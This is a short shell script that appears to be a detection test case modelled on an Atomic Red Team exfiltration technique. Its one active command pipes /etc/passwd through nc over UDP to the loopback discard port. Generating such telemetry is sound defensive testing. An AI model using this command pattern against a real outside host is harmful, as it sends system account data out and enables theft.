#!/bin/sh
# case: T1048.003-nc-udp-exfil
# technique: Account list sent by UDP
# source: redcanaryco/atomic-red-team T1048.003
# needs: nc
# expect: net exec file
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
need nc
nc -u -w 1 127.0.0.1 9 < /etc/passwd >/dev/null 2>&1; true
exit 0
